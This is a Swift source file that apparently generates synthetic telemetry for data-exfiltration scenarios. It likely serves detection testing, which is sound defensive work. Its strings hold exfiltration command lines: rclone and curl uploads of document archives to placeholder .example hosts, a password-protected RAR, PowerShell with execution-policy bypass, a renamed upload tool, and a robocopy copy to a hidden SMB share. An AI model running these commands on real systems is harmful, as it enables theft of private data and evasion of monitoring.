extension StoryScript {
    /// What happens, from the first copy to the last trace.
    mutating func play(_ kind: StoryKind) {
        switch kind {
        case .sevenZipKept: _ = sevenZip(extension: ["7z", "zip"][number(2)])
        case .rarKept: _ = rar()
        case .powerShellRenamed: renamedArchive()
        case .browserUpload: browserUpload()
        case .rcloneUpload: toolUpload("rclone.exe") { path, _ in #""C:\Users\Public\rc\rclone.exe" copy "\#(path)" store:drop --no-check-certificate --transfers 8"# }
        case .curlUpload: toolUpload("curl.exe") { #"curl.exe -s -T "\#($0)" https://put.\#($1).example/"# }
        case .failedUpload: toolUpload("curl.exe", failing: true) { #"curl.exe --upload-file "\#($0)" https://put.\#($1).example/"# }
        case .renamedUploader: renamedUploader()
        case .scriptUpload: scriptUpload()
        case .usbCopy: usbCopy()
        case .smbCopy: smbCopy()
        case .agentLogs: agentLogs()
        case .buildPublished: buildPublished()
        case .errorReport: errorReport()
        case .localBackup: localBackup()
        case .download: download()
        case .installer: installer()
        }
    }

    /// Some documents are copied together.
    private mutating func collect(by process: RunningProcess) -> String {
        let folder = #"\#(home)\AppData\Local\Temp\\#(coined())"#
        for _ in 0..<(3 + number(6)) {
            file("\(folder)\\\(word())_\(word())-\(number(60)).\(["docx", "xlsx", "pdf"][number(3)])", size: 20_000 + number(4_000_000), by: process)
            wait(1, andUpTo: 20)
        }
        return folder
    }

    private mutating func sevenZip(extension suffix: String) -> (archive: String, shell: RunningProcess) {
        let shell = start(
            "powershell.exe", #""powershell.exe" -NoProfile -ExecutionPolicy Bypass -File "\#(home)\Documents\\#(word()).ps1""#, by: explorer)
        let folder = collect(by: shell)
        let path = #"\#(home)\Documents\\#(word())_\#(word())-\#(number(1_000)).\#(suffix)"#
        let packer = start("7z.exe", #""C:\Program Files\7-Zip\7z.exe" a -mx=5 "\#(path)" "\#(folder)\*""#, by: shell)
        wait(3, andUpTo: 30)
        makeArchive(path, by: packer)
        return (path, shell)
    }

    private mutating func rar() -> String {
        let shell = start("cmd.exe", #""C:\Windows\system32\cmd.exe" /c pack.bat"#, by: explorer)
        let folder = collect(by: shell)
        let path = #"C:\ProgramData\\#(word())-\#(number(1_000)).rar"#
        let packer = start("Rar.exe", #"Rar.exe a -hpMarch26 -v500m "\#(path)" "\#(folder)""#, by: shell)
        wait(3, andUpTo: 30)
        makeArchive(path, by: packer)
        return path
    }

    private mutating func compress() -> (archive: String, shell: RunningProcess) {
        let path = #"\#(home)\AppData\Local\Temp\\#(word())_\#(number(10_000)).zip"#
        let shell = start("powershell.exe", #"powershell.exe -Command "Compress-Archive -Path '\#(home)\Documents\*' -DestinationPath '\#(path)'""#, by: explorer)
        wait(5, andUpTo: 40)
        makeArchive(path, by: shell)
        return (path, shell)
    }

    private mutating func renamedArchive() {
        let (path, shell) = compress()
        wait(40, andUpTo: 100)
        let renamed = path.replacing(".zip", with: ".dat")
        rename(renamed, from: String(path.split(separator: "\\").last ?? ""), by: shell)
        wait(200, andUpTo: 500)
        delete(renamed, by: shell)
    }

    private mutating func browserUpload() {
        let (path, _) = sevenZip(extension: "zip")
        let browser = start("msedge.exe", #""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#, by: explorer)
        wait(60, andUpTo: 300)
        let host = "files.\(coined()).example"
        let contact = connect(to: host, by: browser)
        wait(2)
        inspect(#"{"direction":"Out","host":"\#(host)","method":"POST","uri":"/upload/\#(path.split(separator: "\\").last ?? "")"}"#, inside: contact)
        leave()
    }

    private mutating func toolUpload(_ tool: String, failing: Bool = false, _ line: (_ path: String, _ host: String) -> String) {
        let (path, shell) = sevenZip(extension: "7z")
        wait(60, andUpTo: 400)
        let host = coined()
        let uploader = start(tool, line(path, host), by: shell)
        _ = connect(to: "put.\(host).example", failing: failing, by: uploader)
        if !failing { leave() }
    }

    /// An upload tool under another name, from another window; a file says what it carries.
    private mutating func renamedUploader() {
        _ = rar()
        wait(200, andUpTo: 600)
        let shell = start("cmd.exe", #""C:\Windows\system32\cmd.exe""#, by: explorer)
        let uploader = start("mssync.exe", #"C:\ProgramData\mssync\mssync.exe copy --files-from list.txt / remote: --config c.conf"#, by: shell)
        _ = connect(to: "s3.\(coined()).example", by: uploader)
        leave()
    }

    /// One script packs and sends; its command line names neither.
    private mutating func scriptUpload() {
        let shell = start("powershell.exe", #""powershell.exe" -ExecutionPolicy Bypass -File "\#(home)\Documents\\#(word()).ps1""#, by: explorer)
        _ = collect(by: shell)
        makeArchive(#"\#(home)\AppData\Local\Temp\\#(word())_\#(number(10_000)).zip"#, by: shell)
        wait(4, andUpTo: 20)
        _ = connect(to: "drop.\(coined()).example", by: shell)
        leave()
    }

    private mutating func usbCopy() {
        let (path, _) = sevenZip(extension: "zip")
        wait(90, andUpTo: 200)
        mount("E:")
        wait(20, andUpTo: 60)
        file(#"E:\\#(path.split(separator: "\\").last ?? "")"#, size: 9_000_000, by: explorer)
        leave()
    }

    /// The kernel carries the file, for everybody: its connections belong to no process tree.
    private mutating func smbCopy() {
        let (path, shell) = sevenZip(extension: "7z")
        wait(60, andUpTo: 120)
        let name = String(path.split(separator: "\\").last ?? "")
        _ = start("robocopy.exe", #"robocopy.exe "\#(home)\Documents" "\\10.20.3.7\drop$" "\#(name)""#, by: shell)
        _ = connect(to: "", 10 << 24 | 20 << 16 | 3 << 8 | 7, port: 445, by: kernel)
        leave()
    }
}
